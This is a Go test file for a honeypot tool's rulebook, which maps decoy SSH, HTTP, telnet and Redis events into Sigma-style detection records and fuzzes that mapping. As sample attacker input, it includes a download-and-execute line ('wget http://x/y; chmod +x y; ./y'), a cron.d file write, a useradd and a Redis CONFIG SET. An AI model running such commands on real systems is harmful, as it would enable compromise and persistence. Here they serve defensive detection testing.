package rulebook_test

import (
	"fmt"
	"net/netip"
	"strings"
	"testing"
	"time"

	"honeyguide"
	"honeyguide/internal/rulebook"
	"honeyguide/internal/sigma"
)

var noon = time.Date(2026, 11, 21, 12, 0, 0, 0, time.UTC)

// everything is a rule about every event.
func everything(t testing.TB) *rulebook.Bench {
	t.Helper()
	set := &sigma.Ruleset{}
	for i, source := range []string{
		"product: linux", "product: honeyguide", "product: windows", "product: opencanary", "category: webserver", "category: proxy", "category: dns", "category: firewall", "product: zeek",
		"product: suricata", "service: auth",
	} {
		set.Add("all.yml", fmt.Appendf(nil, "title: all %d\nlogsource: {%s}\ndetection:\n  s: {'x|exists': false}\n  condition: s\n", i, source), nil)
	}
	if len(set.Faults) > 0 {
		t.Fatal(set.Faults)
	}
	return rulebook.NewBench(set)
}

func decoy(service, activity string, attrs map[string]any) honeyguide.Event {
	return honeyguide.Event{
		ID: "e", Time: noon, Observed: noon, Activity: activity, Sensor: service, Service: service, Session: "s", Attrs: attrs,
		Src: honeyguide.Endpoint{Addr: netip.MustParseAddrPort("198.51.100.7:4711")},
	}
}

// show prints the fields of records that are asked for.
func show(records []map[string]string, fields ...string) string {
	var out []string
	for _, r := range records {
		var one []string
		for _, f := range fields {
			one = append(one, r[f])
		}
		out = append(out, strings.Join(one, "|"))
	}
	return strings.Join(out, "\n")
}

func TestCommandsAreProcesses(t *testing.T) {
	b := everything(t)
	in := decoy("ssh", honeyguide.ActivityLoginSuccess, map[string]any{honeyguide.AttrUser: "alice"})
	b.Seen(&in)
	for _, c := range []struct{ line, want string }{
		{"id", "/usr/bin/id|id|alice|/home/alice"},
		{"cd /tmp && ./x -a; sudo cat y", "/bin/bash|cd /tmp && ./x -a; sudo cat y|alice|/home/alice\n" +
			"/usr/bin/cd|cd /tmp|alice|/home/alice\n/tmp/x|./x -a|alice|/tmp\n/usr/bin/cat|cat y|alice|/tmp\n/usr/bin/sudo|sudo cat y|alice|/tmp"},
		{"/opt/a b", "/opt/a|/opt/a b|alice|/tmp"},
		{"cd sub", "/usr/bin/cd|cd sub|alice|/tmp"},
		{"useradd x", "/usr/sbin/useradd|useradd x|alice|/tmp/sub"},
		{"cd ~", "/usr/bin/cd|cd ~|alice|/tmp/sub"},
		{"cd /var/run || cd /mnt", "/bin/bash|cd /var/run || cd /mnt|alice|/tmp/sub\n/usr/bin/cd|cd /var/run|alice|/tmp/sub\n/usr/bin/cd|cd /mnt|alice|/var/run"},
		{"pwd", "/usr/bin/pwd|pwd|alice|/var/run"},
	} {
		e := decoy("ssh", honeyguide.ActivityCommand, map[string]any{honeyguide.AttrCommand: c.line})
		if got := show(b.Seen(&e), "Image", "CommandLine", "User", "CurrentDirectory"); got != c.want {
			t.Errorf("%s:\n%s\nwant\n%s", c.line, got, c.want)
		}
	}
	e := decoy("redis", honeyguide.ActivityCommand, map[string]any{honeyguide.AttrCommand: "CONFIG SET dir /tmp"})
	if got := b.Seen(&e); len(got) != 1 || got[0]["Image"] != "" || got[0]["logtype"] != "17001" {
		t.Errorf("a command of redis is no process: %v", got)
	}
}

func TestDecoyEvents(t *testing.T) {
	for name, c := range map[string]struct {
		e      honeyguide.Event
		fields string
		want   string
	}{
		"request": {decoy("http", honeyguide.ActivityRequest, map[string]any{
			honeyguide.AttrMethod: "GET", honeyguide.AttrURL: "/a?b=c", honeyguide.AttrUserAgent: "curl", honeyguide.AttrStatus: int64(404),
		}), "cs-method cs-uri-stem cs-uri-query cs-user-agent sc-status c-ip logtype", "GET|/a|/a?b=c\nb=c|curl|404|198.51.100.7|3000"},
		"file":     {decoy("ssh", honeyguide.ActivityFileWrite, map[string]any{honeyguide.AttrPath: "/etc/cron.d/x", honeyguide.AttrTool: "sftp", honeyguide.AttrSHA256: "ab"}), "TargetFilename Image Hashes", "/etc/cron.d/x|/usr/lib/openssh/sftp-server|SHA256=ab"},
		"renamed":  {decoy("ssh", honeyguide.ActivityFileChange, map[string]any{honeyguide.AttrPath: "/a", honeyguide.AttrToPath: "/b", honeyguide.AttrDetail: "rename"}), "SourceFilename TargetFilename", "/a|/b"},
		"download": {decoy("ssh", honeyguide.ActivityDownload, map[string]any{honeyguide.AttrURL: "http://example.com:81/x", honeyguide.AttrTool: "wget"}), "c-uri cs-host DestinationHostname DestinationPort Image", "http://example.com:81/x|example.com:81|example.com|81|/usr/bin/wget"},
		"address":  {decoy("ssh", honeyguide.ActivityDownload, map[string]any{honeyguide.AttrURL: "http://192.0.2.1/x", honeyguide.AttrTool: "curl"}), "DestinationIp DestinationHostname", "192.0.2.1|"},
		"failed":   {decoy("ssh", honeyguide.ActivityLoginFailed, map[string]any{honeyguide.AttrUser: "root", honeyguide.AttrPassword: "x", honeyguide.AttrAuthMethod: "password"}), "@raw logtype logdata.USERNAME", "Failed password for root from 198.51.100.7 port 4711 ssh2|4002|root"},
		"telnet":   {decoy("telnet", honeyguide.ActivityLoginFailed, map[string]any{honeyguide.AttrUser: "root"}), "@raw logtype", "FAILED LOGIN (1) on 'pts/0' from '198.51.100.7' FOR 'root', Authentication failure|6001"},
		"run":      {decoy("ssh", honeyguide.ActivityExecute, map[string]any{honeyguide.AttrPath: "/tmp/x"}), "Image CommandLine ParentImage", "/tmp/x|/tmp/x|/bin/bash"},
		"tunnel":   {decoy("ssh", honeyguide.ActivityTunnel, map[string]any{honeyguide.AttrDetail: "direct-tcpip x:25"}), "detail src_ip src_port @sources", "direct-tcpip x:25|198.51.100.7|4711|honeyguide/tunnel/ssh"},
	} {
		if got := show(everything(t).Seen(&c.e), strings.Fields(c.fields)...); got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}

func TestRecordsKeepTheirNames(t *testing.T) {
	for name, c := range map[string]struct {
		attrs  map[string]any
		raw    string
		fields string
		want   string
	}{
		"own field wins": {map[string]any{"logsource.product": "linux", "logsource.category": "process_creation", "unmapped.CommandLine": "own", "process.cmd_line": "typed", "user.name": "x"}, "", "CommandLine User", "own|x"},
		"lists":          {map[string]any{"logsource.product": "zeek", "logsource.service": "dns", "unmapped.answers": `["a","b"]`, "unmapped.id": `{"orig_h":"1","n":{"x":2}}`, "unmapped.odd": "[not json"}, "", "answers id.orig_h id.n.x odd", "a\nb|1|2|[not json"},
		"line":           {map[string]any{"logsource.product": "linux", "logsource.service": "sshd"}, "Nov 21 sshd[1]: hello", "@raw @sources", "Nov 21 sshd[1]: hello|linux//sshd linux//auth linux//syslog"},
		"no braces":      {map[string]any{"logsource.product": "zeek"}, `{"a":1}`, "@raw", ""},
		"priority":       {map[string]any{"logsource.product": "linux"}, `<34>Nov 21 hello`, "@raw", "<34>Nov 21 hello"},
		"windows":        {map[string]any{"logsource.product": "windows", "metadata.product": "windows", "unmapped.Channel": "Security", "unmapped.EventID": "4688", "unmapped.NewProcessName": "C:\\a.exe", "unmapped.ProcessId": "0x4"}, "", "Image ProcessId @sources", "C:\\a.exe|0x4|windows/process_creation/security"},
		"dns":            {map[string]any{"metadata.product": "suricata", "query.hostname": "evil.example", "query.type": "A"}, "", "query record_type @sources", "evil.example|A|suricata/dns/"},
	} {
		e := honeyguide.Event{ID: "e", Time: noon, Activity: "record", Attrs: c.attrs, Raw: []byte(c.raw)}
		if name == "dns" {
			e.Activity = "dns_query"
		}
		if got := show(everything(t).Seen(&e), strings.Fields(c.fields)...); got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}

// Events nobody is interested in cost no record.
func TestUnroutedEventsAreSkipped(t *testing.T) {
	set := &sigma.Ruleset{}
	set.Add("x", []byte(simple), nil)
	b := rulebook.NewBench(set)
	e := decoy("ssh", honeyguide.ActivityConnect, map[string]any{"connection_info.protocol_name": "ssh"})
	if got := b.Seen(&e); len(got) != 0 {
		t.Errorf("%v", got)
	}
	if n := testing.AllocsPerRun(100, func() { b.Fired(&e, nil) }); n != 0 {
		t.Errorf("%v allocations", n)
	}
}

func FuzzRecords(f *testing.F) {
	f.Add("ssh", "command", "cd /tmp; wget http://x/y; chmod +x y; ./y", "root", "", "")
	f.Add("http", "request", "", "", "http_request.url", "/a?b=%00")
	f.Add("", "record", "", "", "unmapped.x", `{"a":[1,{"b":null}],"c":{}}`)
	f.Add("", "record", "", "", "unmapped.Channel", "Security")
	f.Add("ssh", "download", "", "", "http_request.url", "://[::1]:x/")
	f.Add("ssh", "login_success", "", "a\x00b", "logsource.product", "cowrie")
	b := everything(f)
	f.Fuzz(func(t *testing.T, service, activity, line, user, attr, value string) {
		e := decoy(service, activity, map[string]any{})
		e.Set(honeyguide.AttrCommand, line)
		e.Set(honeyguide.AttrUser, user)
		e.Set(attr, value)
		e.Raw = []byte(value)
		n := 0
		for _, r := range b.Seen(&e) {
			n++
			for name, text := range r {
				if len(text) > 8*(len(line)+len(value)+len(user)+1000) {
					t.Errorf("%s has %d bytes", name, len(text))
				}
			}
		}
		if n > 64 {
			t.Errorf("%d records of one event", n)
		}
		b.Fired(&e, func(r *sigma.Rule, rec *sigma.Record) { b.Reasons(r, rec) })
	})
}

func FuzzReadExamples(f *testing.F) {
	f.Add([]byte("match:\n  - command: id\nmiss:\n  - request: GET /\n  - fields: {a: b}\n    raw: x\n"))
	f.Add([]byte("match: [1, {activity: x, attrs: {a: b}}]\n"))
	f.Add([]byte("match: &a [*a]"))
	set := &sigma.Ruleset{}
	set.Add("x", []byte(simple), nil)
	b := rulebook.NewBench(set)
	f.Fuzz(func(t *testing.T, text []byte) {
		x, err := rulebook.ReadExamples("fuzz", text)
		if err != nil {
			return
		}
		for i := range x.Match {
			b.Try(set.Rules[0], &x.Match[i], true)
			_ = x.Match[i].String()
		}
	})
}
